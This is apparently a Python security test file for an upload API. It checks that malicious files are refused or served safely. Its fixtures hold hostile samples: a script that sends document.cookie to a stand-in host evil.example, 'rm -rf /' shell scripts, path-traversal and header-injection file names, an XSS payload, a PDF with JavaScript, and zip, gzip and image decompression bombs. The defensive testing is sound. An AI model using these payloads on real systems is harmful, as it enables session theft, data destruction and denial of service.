"""Files that mean harm by their name, by what is in them, or by both: what becomes of each through the API of uploads.

A file is refused with a sentence at its name or at its content, or it is kept under its hash and handed out as an
attachment that no browser opens as a page.
"""

import gzip
import io
import re
import struct
import zipfile
import zlib
from urllib.parse import quote

from tests import actors_projects as at_projects
from tests.actors import Actor
from tests.service.projects import telling
from tests.service.projects.test_bad_input import raw
from tests.world import World

NAME, CONTENT = "refused at its name", "refused at its content"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
TEXT = "停机 6 小时\n".encode()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_picture() -> bytes:
    """10,000² points in some 12 kB."""
    head = struct.pack(">IIBBBBB", 10_000, 10_000, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (10_000 * (1 + 1250)), 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def packed(*members: tuple[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return made.getvalue()


def bomb() -> bytes:
    """An archive of archives of nothing: a thousand times its size at each level."""
    inner = packed(("0", b"\x00" * 10_000_000))
    return packed(*((f"{n}.zip", inner) for n in range(16)))


PNG = huge_picture()
CASES: dict[str, tuple[str, bytes, str]] = {
    "a way up": ("../../x.pdf", PDF, NAME),
    "a way up in Windows": ("..\\..\\x.pdf", PDF, NAME),
    "a way up, escaped once more": ("..%2f..%2fx.pdf", PDF, NAME),
    "an absolute path": ("/etc/cron.d/x.txt", TEXT, NAME),
    "a drive": ("C:x.txt", TEXT, NAME),
    "a stream of another file": ("x.txt::$DATA", TEXT, NAME),
    "a hidden file": (".htaccess", TEXT, NAME),
    "no name": ("", TEXT, NAME),
    "nothing but spaces": ("   ", TEXT, NAME),
    "a NUL before the true ending": ("x.exe\x00.pdf", PDF, NAME),
    "a new line and a header": ("x.pdf\r\nSet-Cookie: shixun=mine", PDF, NAME),
    "right to left": ("x\u202efdp.exe", b"MZ\x90\x00", NAME),
    "an isolate": ("x\u2066fdp\u2069.pdf", PDF, NAME),
    "300 characters": ("x" * 296 + ".pdf", PDF, NAME),
    "a quote that ends the header": ('x".html;y=".pdf', PDF, NAME),
    "markup": ("<img src=x onerror=alert(1)>.pdf", PDF, NAME),
    "a device without ending": ("CON", TEXT, CONTENT),
    "a device with one": ("NUL.txt", TEXT, "text/plain"),
    "a formula": ("=HYPERLINK('x').csv", TEXT, "text/csv"),
    "two endings": ("photo.png.exe", PNG, CONTENT),
    "a program": ("run.exe", b"MZ\x90\x00", CONTENT),
    "a program that says it is a report": ("report.pdf", b"MZ\x90\x00", CONTENT),
    "a script of a shell": ("run.sh", b"#!/bin/sh\nrm -rf /\n", CONTENT),
    "a script that says it is text": ("notes.txt", b"#!/bin/sh\nrm -rf /\n", CONTENT),
    "a page": ("page.html", b"<!doctype html>" + SCRIPT, CONTENT),
    "a page that says it is a picture": ("page.png", b"<!doctype html>" + SCRIPT, CONTENT),
    "a page that says it is text": ("page.txt", b" \n<HTML>" + SCRIPT, CONTENT),
    "a picture with a script": ("x.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT, CONTENT),
    "a picture with a script that says it is text": ("x.txt", b"<svg>" + SCRIPT, CONTENT),
    "a page behind a picture's first bytes": ("x.png", PNG[:64] + SCRIPT, "image/png"),
    "a page behind a report's": ("x.pdf", PDF + SCRIPT, "application/pdf"),
    "a page behind words": ("x.txt", TEXT + SCRIPT, "text/plain"),
    "a page in UTF-16": ("x.txt", ("\ufeff" + SCRIPT.decode()).encode("utf-16-le"), "text/plain"),
    "an archive that is a picture too": ("x.png", PNG + packed(("x.html", SCRIPT)), "image/png"),
    "a report with a script": ("report.pdf", PDF, "application/pdf"),
    "a picture of 10,000²": ("huge.png", PNG, "image/png"),
    "an archive of archives": ("bomb.zip", bomb(), "application/zip"),
    "an archive with a way up": ("x.zip", packed(("../../x", b"x")), "application/zip"),
    "a stream that grows": ("x.gz", gzip.compress(b"\x00" * 10_000_000), "application/gzip"),
    "an archive that says it is a sheet": ("x.xlsx", packed(("x.html", SCRIPT)), SHEET),
    "a table with a NUL": ("x.csv", b"a,b\x00c", CONTENT),
    "nothing in it": ("x.txt", b"", CONTENT),
}
"""What it is: its name, what is in it, what becomes of it."""


def sends(student: Actor, team: str, name: str, content: bytes) -> tuple[str, str]:
    """What became of it, and its hash."""
    path = f"{at_projects.API}/teams/{team}/files?name={quote(name, safe='')}"
    answer = raw(student, "POST", path, content, Content_Type="application/octet-stream")
    if answer.status == 201:
        return answer.json["media_type"], answer.json["sha256"]
    if answer.status != 422:
        return f"{answer.status}: {answer.text}", ""
    wrong = answer.json["errors"][0]
    assert wrong["detail"]
    return {"/name": NAME, "/file": CONTENT}.get(wrong["pointer"], wrong["pointer"]), ""


def test_there_are_enough_of_them() -> None:
    assert len(CASES) >= 25


def test_each_is_refused_or_kept_as_something_that_does_no_harm(world: World) -> None:
    told = telling.at_work(world, students=2)
    student = told.students[0]
    became = {what: sends(student, told.team, name, content) for what, (name, content, _) in CASES.items()}
    assert {what: found for what, (found, _) in became.items()} == {
        what: wanted for what, (_, _, wanted) in CASES.items()
    }

    kept = {what: sha256 for what, (_, sha256) in became.items() if sha256}
    for what, sha256 in kept.items():
        for place in (f"{at_projects.API}/teams/{told.team}/files", f"/projects/teams/{told.team}/files"):
            answer = told.mentor.http.call("GET", f"{place}/{sha256}")
            assert answer.status == 200, what
            does_no_harm(answer.headers, what)
    folder = world.folder / "files" / "projects"
    there = {path.name for path in folder.rglob("*") if path.is_file()}
    assert there >= set(kept.values())
    assert all(re.fullmatch(r"[0-9a-f]{64}|[0-9a-f-]{36}", name) for name in there), "no name is a path"


def does_no_harm(headers: dict[str, str], what: str) -> None:
    named = headers["Content-Disposition"]
    assert re.fullmatch(r"attachment; filename\*=UTF-8''[\w.%~-]+", named), f"{what}: {named}"
    assert headers["X-Content-Type-Options"] == "nosniff", what
    assert headers["Content-Security-Policy"] == "sandbox; default-src 'none'", what
    assert headers["Content-Type"].partition(";")[0] not in (
        "text/html",
        "image/svg+xml",
        "text/javascript",
    ), what
